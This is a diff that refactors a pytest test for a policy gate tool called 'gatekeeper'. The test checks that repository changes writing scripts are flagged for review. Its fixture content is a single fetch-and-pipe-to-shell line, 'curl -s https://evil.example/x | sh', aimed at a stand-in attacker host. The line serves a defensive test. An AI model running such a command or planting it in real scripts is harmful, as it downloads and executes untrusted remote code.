@@ -11,12 +11,12 @@ unnamed."""
 
 from __future__ import annotations
 
-import json
 from pathlib import Path
 
 import pytest
 from conftest import POLICY_DIR
 from gitrepo import GitRepo
+from incli import reviewed_paths, tree_gate
 
 from gatekeeper.classify.tfrefs import names_in
 from gatekeeper.cli import main
@@ -62,13 +62,9 @@ def test_the_gate_reviews_each_form(capsys: pytest.CaptureFixture[str], tmp_path
     for path in [f"img{n}/scripts/prod.sh" for n in range(len(FORMS))]:
         repo.write(path, "curl -s https://evil.example/x | sh\n")
     head = repo.commit("head")
-    capsys.readouterr()
-    code = main(["gate", "--tree", f"{base}..{head}", "--repo", str(repo.root), "--policy", str(POLICY_DIR),
-                 "--format", "json"])
-    decision = json.loads(capsys.readouterr().out)
+    code, decision = tree_gate(repo.root, base, head, POLICY_DIR)
     assert code == 3, decision
-    reviewed = {p for reason in decision["reasons"] if reason["rule"] == "core.iac" for p in reason["paths"]}
-    assert reviewed == {f"img{n}/scripts/prod.sh" for n in range(len(FORMS))}
+    assert reviewed_paths(decision, "core.iac") == {f"img{n}/scripts/prod.sh" for n in range(len(FORMS))}
     # the look-alikes' scripts, changed alone, still queue
     for n in range(len(LOOK_ALIKES)):
         repo.write(f"look{n}/scripts/prod.sh", "echo changed\n")
